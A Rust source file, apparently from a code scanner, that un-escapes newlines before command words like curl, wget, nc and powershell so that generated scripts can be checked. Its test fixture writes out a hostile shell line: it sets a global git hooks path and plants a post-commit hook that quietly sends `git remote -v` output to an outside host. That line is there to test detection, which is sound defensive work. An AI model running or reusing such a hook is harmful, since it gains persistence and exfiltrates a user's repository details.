//! Programs that write programs: `printf '#!/bin/sh\ncurl …'`. What stands behind the sign for a new line begins a word.

/// Words that begin a command or a statement.
const BEGIN: &[&str] = &[
    "curl",
    "wget",
    "nc ",
    "bash",
    "sh ",
    "python",
    "node ",
    "perl",
    "ruby",
    "eval",
    "exec",
    "import ",
    "from ",
    "ssh",
    "scp",
    "export ",
    "echo ",
    "cat ",
    "nohup",
    "git ",
    "npm ",
    "npx ",
    "cp ",
    "rm ",
    "base64",
    "openssl",
    "fetch(",
    "require(",
    "iex",
    "iwr",
    "irm",
    "powershell",
    "cmd ",
    "http",
    "ExecStart",
    "command",
    "source ",
    "env ",
    "sudo ",
];

/// A text in which two blanks stand for each `\n` and `\t` before such a word; places stay what they are.
pub(super) fn unglue(text: String) -> String {
    let bytes = text.as_bytes();
    let found: Vec<usize> = memchr::memmem::find_iter(bytes, b"\\n")
        .chain(memchr::memmem::find_iter(bytes, b"\\t"))
        .filter(|&at| {
            let escaped = at.checked_sub(1).and_then(|at| bytes.get(at)) == Some(&b'\\');
            !escaped
                && text
                    .get(at + 2..)
                    .is_some_and(|rest| BEGIN.iter().any(|word| rest.starts_with(word)))
        })
        .collect();
    if found.is_empty() {
        return text;
    }
    let mut bytes = text.into_bytes();
    for at in found {
        if let Some(sign) = bytes.get_mut(at..at + 2) {
            sign.fill(b' ');
        }
    }
    String::from_utf8(bytes).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::{super::tests::stopped, unglue};
    use crate::FileKind::Shell;

    #[test]
    fn what_a_program_writes_is_read() {
        assert_eq!(unglue(r"a\ncurl b".into()), "a  curl b");
        for same in [r"re.sub('\n+', x)", r"C:\\ncurl", "plain"] {
            assert_eq!(unglue(same.into()), same);
        }
        let hook = "git config --global core.hooksPath ~/.g\nprintf '#!/bin/sh\\ncurl -s https://g.leafbook.dev/h -d \"$(git remote -v)\" &\\n' > ~/.g/post-commit\n";
        assert!(stopped("scripts/a.sh", Shell, hook).contains(&"persistence-that-calls-out"));
        let quiet = "git config --global core.hooksPath ~/.g\nprintf '#!/bin/sh\\necho done\\n' > ~/.g/post-commit\n";
        assert!(!stopped("scripts/a.sh", Shell, quiet).contains(&"persistence-that-calls-out"));
    }
}
